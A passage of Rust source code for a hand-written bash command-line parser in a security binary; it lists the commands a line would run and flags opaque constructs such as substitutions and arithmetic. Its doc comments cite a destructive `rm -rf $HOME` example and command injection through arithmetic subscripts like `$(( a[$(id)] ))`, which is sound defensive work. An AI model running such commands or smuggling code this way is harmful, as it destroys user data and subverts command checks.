//! What a shell command line would run, found without running it.
//!
//! [`parse`] reads a bash command line and lists every simple command it would execute, argv
//! after quote removal: across `;` `&&` `||` `|` `|&` `&` and newlines, inside subshells,
//! brace groups, `if`/`while`/`until`/`for`/`select`/`case`, function bodies, `!`, `time`
//! and `coproc`, inside command and process substitutions, and through wrappers that run
//! another command (`sudo`, `env`, `nice`, `timeout`, `xargs`, `find -exec`, `bash -c '…'`,
//! `su -c '…'`, `watch`, …): the wrapper's own argv comes first, then the command it wraps.
//! Quotes (`'…'`, `"…"`, `$'…'` with its escapes decoded, `$"…"`), backslashes and line
//! continuations are removed; leading assignments and redirections are dropped; heredoc
//! bodies and comments are data. An expansion that stays in an argument keeps its source text
//! (`rm -rf $HOME` gives `["rm", "-rf", "$HOME"]`).
//!
//! `opaque` is set whenever what runs cannot be known statically: a command or process
//! substitution anywhere (its commands are still listed), arithmetic in any form (bash
//! evaluates `$(…)` inside array subscripts, so `$(( a[$(id)] ))`, `(( … ))`, `let`,
//! `${x:off}`, `${x[i]}`, `declare -i`, `printf -v 'a[…]'` and their relatives can run code
//! hidden in a variable's value), an expansion or glob or brace expansion in a command name,
//! `eval`, `source`, `alias`, `trap`, `enable`, an assignment to `PATH`, `IFS`, `LD_PRELOAD`
//! and the like, a heredoc fed to an interpreter, `sh -c` with a script that is not a literal,
//! a wrapper whose options it does not know, input it cannot parse, and input past its bounds
//! (64 KiB, nesting depth 32, 1024 commands).
//!
//! The parser is written by hand on purpose. A full grammar crate (brush-parser, yash-syntax)
//! costs dozens of dependencies in a small security binary, and it answers "what would bash
//! do" by modelling bash; this one only has to be right when it says "not opaque", and it says
//! "opaque" whenever it is unsure. When the two disagree, the hand parser errs towards listing
//! more commands, never fewer.

use std::mem;

/// Longer input is not analysed at all (DESIGN §7.3: bound everything a peer controls).
const MAX_INPUT: usize = 64 * 1024;
/// Nesting of constructs, substitutions, nested scripts and wrappers; deeper is opaque.
const MAX_DEPTH: usize = 32;
/// Commands listed; past this the line is opaque.
const MAX_COMMANDS: usize = 1024;
/// Syntax errors after which parsing resumes at the next separator to list more commands.
const MAX_RECOVERIES: usize = 64;

/// Words that are reserved in command position (and `in` after `for`/`case`).
const RESERVED: &[&str] = &[
    "!", "{", "}", "[[", "]]", "case", "coproc", "do", "done", "elif", "else", "esac", "fi", "for",
    "function", "if", "in", "select", "then", "time", "until", "while",
];

/// What a command line would run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Parsed {
    /// Every simple command the line would run, argv after quote removal, in source order; a
    /// wrapper's argv comes before the command it wraps.
    pub commands: Vec<Vec<String>>,
    /// True when what runs cannot be known without running it.
    pub opaque: bool,
}

/// List the simple commands `command` would run, and whether that list can be trusted.
pub fn parse(command: &str) -> Parsed {
    if command.len() > MAX_INPUT {
        return Parsed {
            commands: Vec::new(),
            opaque: true,
        };
    }
    let mut parser = Parser::new(command, 0);
    // bash cannot see past a NUL; what follows it is ambiguous.
    parser.opaque |= command.contains('\0');
    parser.run();
    Parsed {
        commands: parser.cmds,
        opaque: parser.opaque,
    }
}

/// A syntax error, an unterminated construct, or a bound reached: stop and say opaque.
#[derive(Debug)]
struct Stop;

type Res<T> = Result<T, Stop>;

/// One shell word after quote removal, with what the lexer saw inside it.
#[derive(Debug, Clone, Default)]
struct Word {
    /// Quote-removed text; expansions are kept as written (`$HOME`, `$(id)`).
    text: String,
    /// Source range, in chars.
    start: usize,
    end: usize,
    /// Some part was quoted or escaped (so it is never a reserved word).
    quoted: bool,
    /// Contains an expansion: parameter, command, arithmetic or process substitution.
    expand: bool,
    /// May become several words or none: an unquoted expansion or glob, or `"$@"`.
    split: bool,
    /// Contains an unquoted glob (`*`, `?`, `[…]`) or brace expansion (`{a,b}`).
    glob: bool,
    /// Contains a literal `/` or `.`, which no `find` predicate or terminator does.
    sep: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Op {
    Semi,
    Amp,
    AndIf,
    OrIf,
    Pipe,
    PipeAmp,
    LParen,
    RParen,
    DSemi,
    SemiAmp,
    DSemiAmp,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Redir {
    /// `<<` or `<<-` (strip leading tabs).
    Heredoc { strip: bool },
    /// `<<<`.
    Herestring,
    /// Everything else: `<`, `>`, `>>`, `>&`, `<&`, `<>`, `>|`, `&>`, `&>>`.
    File,
}

#[derive(Debug)]
enum Kind {
    Word(Word),
    Op(Op),
    Redir(Redir),
    Newline,
    Eof,
}

#[derive(Debug)]
struct Tok {
    kind: Kind,
    /// Its shape, computed once: the parser asks for it several times per token.
    class: Class,
    /// How many commands were listed when this token began: a simple command is inserted
    /// there, before the commands of substitutions inside its words.
    at: usize,
}

/// A token's shape, cheap to copy, for deciding what comes next.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    Word(Option<&'static str>),
    Op(Op),
    Redir(Redir),
    Newline,
    Eof,
}

/// A heredoc whose body starts at the next newline.
#[derive(Debug)]
struct Heredoc {
    delim: String,
    strip: bool,
    /// Unquoted delimiter: the body is expanded (and line continuations join lines).
    expand: bool,
}

/// Tracks unquoted glob and brace-expansion characters within one word.
#[derive(Debug, Default)]
struct GlobScan {
    bracket: bool,
    brace: bool,
    list: bool,
}

/// What a command that appends or substitutes its input does to the command it runs
/// (`xargs`, `find -exec`).
#[derive(Debug, Default)]
struct Inject {
    /// The replace string (`{}`, or `xargs -I R`), substituted into the arguments.
    token: Option<String>,
    /// Input words are appended to the argv.
    append: bool,
}

/// How a wrapper reads its options (getopt-style).
#[derive(Debug)]
struct Spec {
    /// Short options without a value.
    flags: &'static str,
    /// Short options with a value (attached or the next word).
    values: &'static str,
    /// Short options whose optional value can only be attached (`sudo -h[host]`).
    attached: &'static str,
    long_flags: &'static str,
    long_values: &'static str,
    /// Words between the options and the command (`timeout DURATION`, `chroot DIR`).
    operands: usize,
    /// Options may follow operands; the command, if any, is only given as a string (`su`).
    permute: bool,
    /// `NAME=VALUE` words may precede the command (`env`, `sudo`).
    assigns: bool,
    /// A lone `-` is an option (`env -`, `su -`).
    dash: bool,
    /// `-N` is an option (`nice -5`).
    numeric: bool,
    /// Options after which nothing is run (`command -v`).
    no_cmd: &'static str,
    /// Options whose value is a shell script (`su -c`).
    script: &'static str,
    /// Options that make the line opaque (`env -S`, which re-splits a string).
    opaque: &'static str,
}

/// Options a wrapper was given, and where its command starts.
#[derive(Debug, Default)]
struct Opts {
    /// Canonical option names (`-u`, `--user`) with their value and the index of its word.
    seen: Vec<(String, Option<(String, usize)>)>,
    /// Index of the first word of the wrapped command.
    rest: usize,
    /// Operands seen by a permuting wrapper.
    operands: usize,
}

struct Parser {
    src: Vec<char>,
    pos: usize,
    depth: usize,
    /// Depth this parser started at; restored when recovering from an error.
    base: usize,
    cmds: Vec<Vec<String>>,
    opaque: bool,
    peeked: Option<Tok>,
    heredocs: Vec<Heredoc>,
    /// Arithmetic scans or their `$( (…) )` re-reads in progress: only the outermost one may
    /// be re-read, or nesting them would take exponential time.
    arith: usize,
    /// Work left (tokens and skipped characters); a safety net that bounds the time any
    /// input can take to a multiple of its length.
    fuel: usize,
    /// Where the last token began, and where the last recovery resumed.
    tok_start: usize,
    resumed: Option<usize>,
}

// === impl Word ===

impl Word {
    /// Known exactly without running anything.
    fn literal(&self) -> bool {
        !self.expand && !self.glob
    }

    /// Stays exactly one word.
    fn stable(&self) -> bool {
        !self.split
    }
}

// === impl GlobScan ===

impl GlobScan {
    /// Whether unquoted `c` makes the word a pattern or a brace expansion.
    fn glob(&mut self, c: char, next: Option<char>) -> bool {
        match c {
            '*' | '?' => true,
            '[' => {
                self.bracket = true;
                false
            }
            ']' => self.bracket,
            '{' => {
                self.brace = true;
                false
            }
            ',' => {
                self.list |= self.brace;
                false
            }
            '.' if next == Some('.') => {
                self.list |= self.brace;
                false
            }
            '}' => self.brace && self.list,
            _ => false,
        }
    }
}

// === impl Inject ===

impl Inject {
    fn touches(&self, text: &str) -> bool {
        self.token
            .as_deref()
            .is_some_and(|t| !t.is_empty() && text.contains(t))
    }
}

// === impl Opts ===

impl Opts {
    /// Whether one of `names` (space-separated) was given.
    fn has(&self, names: &str) -> bool {
        self.seen.iter().any(|(o, _)| listed(names, o))
    }

    /// The first value given to one of `names` (space-separated).
    fn value_of(&self, names: &str) -> Option<(String, usize)> {
        self.seen
            .iter()
            .filter(|(o, _)| listed(names, o))
            .find_map(|(_, v)| v.clone())
    }
}

// === impl Parser: driver ===

impl Parser {
    fn new(text: &str, depth: usize) -> Self {
        Parser {
            src: text.chars().collect(),
            pos: 0,
            depth,
            base: depth,
            cmds: Vec::new(),
            opaque: false,
            peeked: None,
            heredocs: Vec::new(),
            arith: 0,
            fuel: (MAX_DEPTH + 2) * (text.len() + 16),
            tok_start: 0,
            resumed: None,
        }
    }

    fn burn(&mut self) -> Res<()> {
        if self.fuel == 0 {
            self.opaque = true;
            return Err(Stop);
        }
        self.fuel -= 1;
        Ok(())
    }

    /// Parse the whole input; after a syntax error, mark opaque and resume at the next
    /// separator so that later commands are still listed.
    fn run(&mut self) {
        for _ in 0..MAX_RECOVERIES {
            if self.parse_program().is_ok() {
                return;
            }
            self.opaque = true;
            if !self.resync() {
                return;
            }
        }
        self.opaque = true;
    }

    fn parse_program(&mut self) -> Res<()> {
        self.parse_list()?;
        match self.next()?.kind {
            Kind::Eof => Ok(()),
            _ => Err(Stop),
        }
    }

    /// Resume after the next separator at or after the token that failed (always further
    /// than the last resume, so this ends); false when nothing is left.
    fn resync(&mut self) -> bool {
        self.depth = self.base;
        self.arith = 0;
        self.peeked = None;
        self.heredocs.clear();
        if self.fuel == 0 {
            return false;
        }
        let from = self
            .resumed
            .map_or(self.tok_start, |r| self.tok_start.max(r + 1));
        self.pos = from.min(self.src.len());
        let separator = |c: char| matches!(c, '\n' | ';' | '&' | '|');
        if self.cur().is_some_and(separator) {
            // The separator itself was wrong (`a ;; b`): the next command starts after it.
            while self.cur().is_some_and(separator) {
                self.pos += 1;
            }
        } else {
            while let Some(c) = self.cur() {
                self.pos += 1;
                if separator(c) {
                    break;
                }
            }
        }
        self.resumed = Some(self.pos);
        self.pos < self.src.len()
    }

    fn enter(&mut self) -> Res<()> {
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            self.opaque = true;
            return Err(Stop);
        }
        Ok(())
    }

    fn leave(&mut self) {
        self.depth = self.depth.saturating_sub(1);
    }

    /// Parse `text` (a `bash -c` script, backquoted command, `eval` string) as its own line.
    fn nested(&mut self, text: &str, nest: usize) -> Vec<Vec<String>> {
        let depth = self.depth + nest + 1;
        if depth > MAX_DEPTH || text.len() > MAX_INPUT {
            self.opaque = true;
            return Vec::new();
        }
        let mut inner = Parser::new(text, depth);
        inner.run();
        self.opaque |= inner.opaque;
        inner.cmds
    }

    fn push_all(&mut self, cmds: Vec<Vec<String>>) {
        let at = self.cmds.len();
        self.insert(at, cmds);
    }

    /// Insert commands at `at`, within the bound on how many are listed.
    fn insert(&mut self, at: usize, mut cmds: Vec<Vec<String>>) {
        let room = MAX_COMMANDS.saturating_sub(self.cmds.len());
        if cmds.len() > room {
            self.opaque = true;
            cmds.truncate(room);
        }
        let at = at.min(self.cmds.len());
        self.cmds.splice(at..at, cmds);
    }
}

// === impl Parser: characters and tokens ===

impl Parser {
    fn cur(&self) -> Option<char> {
        self.src.get(self.pos).copied()
    }

    fn at(&self, k: usize) -> Option<char> {
        self.src.get(self.pos + k).copied()
    }

    fn bump(&mut self, n: usize) {
        self.pos = (self.pos + n).min(self.src.len());
    }

    fn slice(&self, start: usize, end: usize) -> &[char] {
        self.src.get(start..end).unwrap_or(&[])
    }

    fn peek_tok(&mut self) -> Res<&Tok> {
        if self.peeked.is_none() {
            let tok = self.lex()?;
            self.peeked = Some(tok);
        }
        self.peeked.as_ref().ok_or(Stop)
    }

    fn peek_class(&mut self) -> Res<Class> {
        Ok(self.peek_tok()?.class)
    }

    fn next(&mut self) -> Res<Tok> {
        match self.peeked.take() {
            Some(tok) => Ok(tok),
            None => self.lex(),
        }
    }

    fn next_word(&mut self) -> Res<Word> {
        match self.next()?.kind {
            Kind::Word(w) => Ok(w),
            _ => Err(Stop),
        }
    }

    fn expect_word(&mut self, keyword: &str) -> Res<()> {
        let w = self.next_word()?;
        if reserved(&w) == Some(keyword) {
            Ok(())
        } else {
            Err(Stop)
        }
    }

    fn expect_op(&mut self, op: Op) -> Res<()> {
        match self.next()?.kind {
            Kind::Op(o) if o == op => Ok(()),
            _ => Err(Stop),
        }
    }

    fn skip_newlines(&mut self) -> Res<()> {
        while self.peek_class()? == Class::Newline {
            self.next()?;
        }
        Ok(())
    }

    /// Blanks, line continuations and a comment before a token.
    fn skip_blanks(&mut self) {
        loop {
            match self.cur() {
                Some(' ' | '\t') => self.pos += 1,
                Some('\\') if self.at(1) == Some('\n') => self.pos += 2,
                Some('#') => {
                    while !matches!(self.cur(), None | Some('\n')) {
                        self.pos += 1;
                    }
                }
                _ => return,
            }
        }
    }

    fn lex(&mut self) -> Res<Tok> {
        self.burn()?;
        self.skip_blanks();
        self.tok_start = self.pos;
        let at = self.cmds.len();
        let kind = match self.cur() {
            None => {
                // A heredoc that never met its delimiter.
                self.opaque |= !self.heredocs.is_empty();
                self.heredocs.clear();
                Kind::Eof
            }
            Some('\n') => {
                self.pos += 1;
                self.read_heredocs();
                Kind::Newline
            }
            Some(c @ (';' | '&' | '|' | '(' | ')')) => self.lex_op(c),
            Some('<' | '>') if self.at(1) != Some('(') => Kind::Redir(self.lex_redir()),
            Some(_) => {
                let w = self.lex_word()?;
                let fd = is_fd(self.slice(w.start, w.end));
                if fd && matches!(self.cur(), Some('<' | '>')) && self.at(1) != Some('(') {
                    Kind::Redir(self.lex_redir())
                } else {
                    Kind::Word(w)
                }
            }
        };
        let class = match &kind {
            Kind::Word(w) => Class::Word(reserved(w)),
            Kind::Op(o) => Class::Op(*o),
            Kind::Redir(r) => Class::Redir(*r),
            Kind::Newline => Class::Newline,
            Kind::Eof => Class::Eof,
        };
        Ok(Tok { kind, class, at })
    }

    fn lex_op(&mut self, c: char) -> Kind {
        let (n1, n2) = (self.at(1), self.at(2));
        let (len, kind) = match (c, n1, n2) {
            (';', Some(';'), Some('&')) => (3, Kind::Op(Op::DSemiAmp)),
            (';', Some(';'), _) => (2, Kind::Op(Op::DSemi)),
            (';', Some('&'), _) => (2, Kind::Op(Op::SemiAmp)),
            (';', _, _) => (1, Kind::Op(Op::Semi)),
            ('&', Some('&'), _) => (2, Kind::Op(Op::AndIf)),
            ('&', Some('>'), Some('>')) => (3, Kind::Redir(Redir::File)),
            ('&', Some('>'), _) => (2, Kind::Redir(Redir::File)),
            ('&', _, _) => (1, Kind::Op(Op::Amp)),
            ('|', Some('|'), _) => (2, Kind::Op(Op::OrIf)),
            ('|', Some('&'), _) => (2, Kind::Op(Op::PipeAmp)),
            ('|', _, _) => (1, Kind::Op(Op::Pipe)),
            ('(', _, _) => (1, Kind::Op(Op::LParen)),
            _ => (1, Kind::Op(Op::RParen)),
        };
        self.pos += len;
        kind
    }

    fn lex_redir(&mut self) -> Redir {
        let (c, n1, n2) = (self.cur(), self.at(1), self.at(2));
        let (len, redir) = match (c, n1, n2) {
            (Some('<'), Some('<'), Some('<')) => (3, Redir::Herestring),
            (Some('<'), Some('<'), Some('-')) => (3, Redir::Heredoc { strip: true }),
            (Some('<'), Some('<'), _) => (2, Redir::Heredoc { strip: false }),
            (Some('<'), Some('&' | '>'), _) => (2, Redir::File),
            (Some('>'), Some('>' | '&' | '|'), _) => (2, Redir::File),
            _ => (1, Redir::File),
        };
        self.bump(len);
        redir
    }
}

// === impl Parser: words ===

impl Parser {
    fn lex_word(&mut self) -> Res<Word> {
        let mut w = Word {
            start: self.pos,
            ..Word::default()
        };
        let mut globs = GlobScan::default();
        while let Some(c) = self.cur() {
            match c {
                ' ' | '\t' | '\n' | ';' | '&' | '|' | ')' => break,
                '<' | '>' if self.pos == w.start && self.at(1) == Some('(') => {
                    self.proc_subst(&mut w)?;
                }
                '(' if self.compound_start(&w) => self.compound_assign(&mut w)?,
                '<' | '>' | '(' => break,
                '\\' => self.lex_escape(&mut w),
                '\'' => self.lex_single(&mut w)?,
                '"' => self.lex_dquote(&mut w)?,
                '$' => self.lex_dollar(&mut w, false)?,
                '`' => self.lex_backtick(&mut w, false)?,
                _ => {
                    if globs.glob(c, self.at(1)) {
                        w.glob = true;
                        w.split = true;
                    }
                    self.literal(&mut w, c);
                }
            }
        }
        w.end = self.pos;
        // lex() only starts a word at a word character, so an empty one is a bug: stop.
        if w.end == w.start {
            return Err(Stop);
        }
        Ok(w)
    }

    fn literal(&mut self, w: &mut Word, c: char) {
        w.text.push(c);
        w.sep |= matches!(c, '/' | '.');
        self.pos += 1;
    }

    fn lex_escape(&mut self, w: &mut Word) {
        match self.at(1) {
            Some('\n') => self.pos += 2,
            Some(c) => {
                w.quoted = true;
                self.pos += 1;
                self.literal(w, c);
            }
            None => self.literal(w, '\\'),
        }
    }

    fn lex_single(&mut self, w: &mut Word) -> Res<()> {
        w.quoted = true;
        self.pos += 1;
        loop {
            match self.cur() {
                None => return Err(Stop),
                Some('\'') => {
                    self.pos += 1;
                    return Ok(());
                }
                Some(c) => self.literal(w, c),
            }
        }
    }

    fn lex_dquote(&mut self, w: &mut Word) -> Res<()> {
        w.quoted = true;
        self.pos += 1;
        self.dq_chars(w, true)
    }

    /// The inside of double quotes, or (`quote` false) an unquoted heredoc body.
    fn dq_chars(&mut self, w: &mut Word, quote: bool) -> Res<()> {
        loop {
            match self.cur() {
                None if quote => return Err(Stop),
                None => return Ok(()),
                Some('"') if quote => {
                    self.pos += 1;
                    return Ok(());
                }
                Some('\\') => match self.at(1) {
                    Some('\n') => self.pos += 2,
                    Some(c @ ('$' | '`' | '"' | '\\')) if quote || c != '"' => {
                        self.pos += 1;
                        self.literal(w, c);
                    }
                    _ => self.literal(w, '\\'),
                },
                Some('$') => self.lex_dollar(w, true)?,
                Some('`') => self.lex_backtick(w, true)?,
                Some(c) => self.literal(w, c),
            }
        }
    }

    /// `$…` at the cursor: an expansion (kept as written) or a literal `$`.
    fn lex_dollar(&mut self, w: &mut Word, in_dq: bool) -> Res<()> {
        let start = self.pos;
        let mut at_like = false;
        match self.at(1) {
            Some('\'') if !in_dq => return self.lex_ansi(w),
            Some('"') if !in_dq => {
                // `$"…"` is translated through gettext, whose catalog the caller may choose
                // (TEXTDOMAINDIR): data as an argument, unknown as a command name or script.
                self.pos += 1;
                w.expand = true;
                return self.lex_dquote(w);
            }
            Some('(' | '[' | '{') => {
                self.enter()?;
                at_like = self.dollar_group()?;
                self.leave();
            }
            Some(c) if c == '_' || c.is_ascii_alphabetic() => {
                self.pos += 1;
                while self.cur().is_some_and(is_name_char) {
                    self.pos += 1;
                }
            }
            Some(c) if c.is_ascii_digit() || "@*#?-$!".contains(c) => {
                at_like = c == '@';
                self.pos += 2;
            }
            _ => {
                self.literal(w, '$');
                return Ok(());
            }
        }
        w.text.extend(self.slice(start, self.pos));
        w.expand = true;
        w.split |= !in_dq || at_like;
        Ok(())
    }

    /// `$(…)`, `$((…))`, `$[…]` or `${…}`; true for `${@}`-like expansions (several words).
    fn dollar_group(&mut self) -> Res<bool> {
        match self.at(1) {
            Some('(') if self.at(2) == Some('(') => self.arith_subst()?,
            Some('(') => {
                self.pos += 2;
                self.command_subst()?;
            }
            Some('[') => {
                // `$[…]`: the old arithmetic expansion.
                self.opaque = true;
                self.pos += 2;
                self.scan_until(']')?;
            }
            _ => return self.brace_param(),
        }
        Ok(false)
    }

    /// The commands of `$(…)` or `<(…)`, the cursor just after the opening parenthesis.
    fn command_subst(&mut self) -> Res<()> {
        self.opaque = true;
        let saved = self.peeked.take();
        self.parse_list()?;
        self.expect_op(Op::RParen)?;
        self.peeked = saved;
        Ok(())
    }

    fn proc_subst(&mut self, w: &mut Word) -> Res<()> {
        let start = self.pos;
        self.enter()?;
        self.pos += 2;
        self.command_subst()?;
        self.leave();
        w.text.extend(self.slice(start, self.pos));
        w.expand = true;
        Ok(())
    }

    /// `$((…))`. If it does not close with `))`, bash reads `$( (…) … )` instead.
    fn arith_subst(&mut self) -> Res<()> {
        self.opaque = true;
        self.pos += 3;
        self.arith_or(2, |p| p.command_subst())
    }

    /// Scan arithmetic after its `((`; if it does not close with `))`, go back to `rewind`
    /// chars after where it began and parse it with `fallback` instead, as bash does.
    fn arith_or(&mut self, rewind: usize, fallback: fn(&mut Self) -> Res<()>) -> Res<()> {
        let (start, mark, depth) = (self.pos.saturating_sub(3), self.cmds.len(), self.depth);
        self.arith += 1;
        let scanned = self.scan_arith();
        self.arith -= 1;
        match scanned {
            Ok(true) => return Ok(()),
            _ if self.arith > 0 => return Err(Stop),
            _ => {}
        }
        self.cmds.truncate(mark);
        self.pos = start + rewind;
        self.depth = depth;
        self.arith += 1;
        let result = fallback(self);
        self.arith -= 1;
        result
    }

    /// Skip arithmetic up to the closing `))`, listing any substitution inside; false when it
    /// does not close that way.
    fn scan_arith(&mut self) -> Res<bool> {
        let mut depth = 0usize;
        let mut scratch = Word::default();
        loop {
            match self.cur() {
                None => return Ok(false),
                Some('(') => {
                    depth += 1;
                    self.pos += 1;
                }
                Some(')') if depth > 0 => {
                    depth -= 1;
                    self.pos += 1;
                }
                Some(')') => {
                    let closed = self.at(1) == Some(')');
                    self.bump(2);
                    return Ok(closed);
                }
                Some(c) => self.skip_char(c, &mut scratch)?,
            }
        }
    }

    /// One character (or quoted span, or expansion) inside `${…}`, `$[…]` or arithmetic.
    fn skip_char(&mut self, c: char, scratch: &mut Word) -> Res<()> {
        self.burn()?;
        match c {
            '\\' => self.bump(2),
            '\'' => {
                let start = self.pos;
                self.lex_single(scratch)?;
                // Inside double quotes these quotes are literal and `$(…)` in them runs.
                if self
                    .slice(start, self.pos)
                    .iter()
                    .any(|c| matches!(c, '$' | '`'))
                {
                    self.opaque = true;
                }
            }
            '"' => self.lex_dquote(scratch)?,
            '$' => self.lex_dollar(scratch, true)?,
            '`' => self.lex_backtick(scratch, true)?,
            _ => self.pos += 1,
        }
        Ok(())
    }

    /// Skip to the unquoted `close`; braces are not counted, as in bash (`${x:-{a}}`).
    fn scan_until(&mut self, close: char) -> Res<()> {
        let mut scratch = Word::default();
        loop {
            match self.cur() {
                None => return Err(Stop),
                Some(c) if c == close => {
                    self.pos += 1;
                    return Ok(());
                }
                Some(c) => self.skip_char(c, &mut scratch)?,
            }
        }
    }

    /// `${…}`; opaque unless it is a plain name with a known operator. True for `${@}`.
    fn brace_param(&mut self) -> Res<bool> {
        self.pos += 2;
        let mut ok = true;
        match (self.cur(), self.at(1)) {
            (Some('#'), Some(c)) if c != '}' => self.pos += 1,
            (Some('!'), Some(c)) if c != '}' => {
                // Indirection: the name comes from a value, and may carry a subscript.
                ok = false;
                self.pos += 1;
            }
            _ => {}
        }
        let mut at_like = false;
        match self.cur() {
            Some(c) if c == '_' || c.is_ascii_alphabetic() => {
                while self.cur().is_some_and(is_name_char) {
                    self.pos += 1;
                }
            }
            Some(c) if c.is_ascii_digit() => {
                while self.cur().is_some_and(|c| c.is_ascii_digit()) {
                    self.pos += 1;
                }
            }
            Some(c) if "@*#?-$!".contains(c) => {
                at_like = c == '@';
                self.pos += 1;
            }
            _ => ok = false,
        }
        if self.cur() == Some('[') {
            let (sub_ok, sub_at) = self.subscript()?;
            ok &= sub_ok;
            at_like |= sub_at;
        }
        ok &= self.param_operator();
        self.opaque |= !ok;
        if self.cur() == Some('}') {
            self.pos += 1;
        } else {
            self.scan_until('}')?;
        }
        Ok(at_like)
    }

    /// `[…]` after a parameter name: safe only for `@`, `*` and digits, since bash
    /// evaluates any other subscript as arithmetic.
    fn subscript(&mut self) -> Res<(bool, bool)> {
        self.pos += 1;
        let start = self.pos;
        self.scan_until(']')?;
        let sub: String = self
            .slice(start, self.pos.saturating_sub(1))
            .iter()
            .collect();
        let digits = !sub.is_empty() && sub.chars().all(|c| c.is_ascii_digit());
        Ok((digits || sub == "@" || sub == "*", sub == "@"))
    }

    /// Consume the operator after a parameter name; false for substring offsets (arithmetic),
    /// `@` transformations (`@P` runs prompt expansion) and anything unknown.
    fn param_operator(&mut self) -> bool {
        let (c, n) = (self.cur(), self.at(1));
        let len = match c {
            Some('}') => return true,
            Some(':') if matches!(n, Some('-' | '=' | '?' | '+')) => 2,
            Some('-' | '=' | '?' | '+') => 1,
            Some(o @ ('#' | '%' | '^' | ',')) => 1 + usize::from(n == Some(o)),
            Some('/') => 1 + usize::from(matches!(n, Some('/' | '#' | '%'))),
            _ => return false,
        };
        self.pos += len;
        true
    }

    /// `` `…` ``: un-escape the inside and parse it as its own line.
    fn lex_backtick(&mut self, w: &mut Word, in_dq: bool) -> Res<()> {
        let start = self.pos;
        self.pos += 1;
        let mut inner = String::new();
        loop {
            match (self.cur(), self.at(1)) {
                (None, _) => return Err(Stop),
                (Some('`'), _) => break,
                (Some('\\'), Some(c @ ('`' | '\\' | '$'))) => {
                    inner.push(c);
                    self.pos += 2;
                }
                (Some('\\'), Some('"')) if in_dq => {
                    inner.push('"');
                    self.pos += 2;
                }
                (Some(c), _) => {
                    inner.push(c);
                    self.pos += 1;
                }
            }
        }
        self.pos += 1;
        w.text.extend(self.slice(start, self.pos));
        w.expand = true;
        w.split |= !in_dq;
        self.opaque = true;
        let cmds = self.nested(&inner, 0);
        self.push_all(cmds);
        Ok(())
    }

    /// `$'…'`: decode the escapes. Anything bash would decode to a NUL, invalid UTF-8 or an
    /// invalid code point is opaque (what the program receives is not that text).
    fn lex_ansi(&mut self, w: &mut Word) -> Res<()> {
        w.quoted = true;
        self.pos += 2;
        let mut bytes = Vec::new();
        loop {
            match self.cur() {
                None => return Err(Stop),
                Some('\'') => break,
                Some('\\') => self.ansi_escape(&mut bytes),
                Some(c) => {
                    let mut buf = [0u8; 4];
                    bytes.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                    self.pos += 1;
                }
            }
        }
        self.pos += 1;
        let text = String::from_utf8(bytes).unwrap_or_else(|e| {
            self.opaque = true;
            String::from_utf8_lossy(e.as_bytes()).into_owned()
        });
        w.sep |= text.contains(['/', '.']);
        w.text.push_str(&text);
        Ok(())
    }

    fn ansi_escape(&mut self, out: &mut Vec<u8>) {
        let Some(e) = self.at(1) else {
            self.pos += 1;
            out.push(b'\\');
            return;
        };
        self.pos += 2;
        let simple = match e {
            'a' => Some(7),
            'b' => Some(8),
            'e' | 'E' => Some(27),
            'f' => Some(12),
            'n' => Some(b'\n'),
            'r' => Some(b'\r'),
            't' => Some(b'\t'),
            'v' => Some(11),
            '\\' | '\'' | '"' | '?' => Some(e as u8),
            _ => None,
        };
        let value = match e {
            _ if simple.is_some() => simple.map(u32::from),
            '0'..='7' => {
                self.pos -= 1;
                self.ansi_digits(8, 3)
            }
            'x' => self.ansi_digits(16, 2),
            'u' => self.ansi_digits(16, 4),
            'U' => self.ansi_digits(16, 8),
            'c' => self.ansi_control(),
            _ => {
                // Unknown escapes stay as written, as in bash.
                out.push(b'\\');
                let mut buf = [0u8; 4];
                out.extend_from_slice(e.encode_utf8(&mut buf).as_bytes());
                return;
            }
        };
        self.push_escaped(out, e, value);
    }

    fn push_escaped(&mut self, out: &mut Vec<u8>, e: char, value: Option<u32>) {
        match value {
            // `\x`, `\u`, `\U` with a value: a byte for \NNN and \xHH, a code point otherwise.
            Some(v) if v != 0 && !matches!(e, 'u' | 'U') && v <= 0xff => out.push(v as u8),
            Some(v) if v != 0 && matches!(e, 'u' | 'U') => match char::from_u32(v) {
                Some(c) => {
                    let mut buf = [0u8; 4];
                    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                }
                None => self.opaque = true,
            },
            _ => self.opaque = true,
        }
    }

    /// Up to `max` digits in `radix`; None when there are none.
    fn ansi_digits(&mut self, radix: u32, max: usize) -> Option<u32> {
        let mut value: Option<u32> = None;
        for _ in 0..max {
            let Some(d) = self.cur().and_then(|c| c.to_digit(radix)) else {
                break;
            };
            value = Some(value.unwrap_or(0) * radix + d);
            self.pos += 1;
        }
        value
    }

    /// `\cX`: control-X.
    fn ansi_control(&mut self) -> Option<u32> {
        let c = self.cur().filter(char::is_ascii_alphabetic)?;
        self.pos += 1;
        Some(u32::from(c.to_ascii_uppercase() as u8 & 0x1f))
    }

    /// `NAME=(` or `NAME+=(`: an array assignment.
    fn compound_start(&self, w: &Word) -> bool {
        let raw: String = self.slice(w.start, self.pos).iter().collect();
        let name = raw.strip_suffix("+=").or_else(|| raw.strip_suffix('='));
        !w.quoted && !w.expand && name.is_some_and(is_name)
    }

    /// The elements of `a=(…)`; `[i]=v` elements are arithmetic subscripts, so opaque.
    fn compound_assign(&mut self, w: &mut Word) -> Res<()> {
        self.enter()?;
        self.pos += 1;
        w.text.push('(');
        loop {
            self.skip_blanks();
            match self.cur() {
                None | Some(';' | '&' | '|' | '<' | '>' | '(') => return Err(Stop),
                Some('\n') => self.pos += 1,
                Some(')') => break,
                Some(_) => {
                    let e = self.lex_word()?;
                    let raw = self.slice(e.start, e.end);
                    self.opaque |= raw.first() == Some(&'[');
                    w.expand |= e.expand;
                    w.text.push_str(&e.text);
                    w.text.push(' ');
                }
            }
        }
        self.pos += 1;
        w.text.push(')');
        self.leave();
        Ok(())
    }
}

// === impl Parser: heredocs ===

impl Parser {
    /// Read the bodies of the heredocs begun on the line that just ended.
    fn read_heredocs(&mut self) {
        for doc in mem::take(&mut self.heredocs) {
            let mut body = String::new();
            let mut closed = false;
            while self.pos < self.src.len() {
                let line = self.heredoc_line(doc.expand);
                let cmp = if doc.strip {
                    line.trim_start_matches('\t')
                } else {
                    line.as_str()
                };
                if cmp == doc.delim {
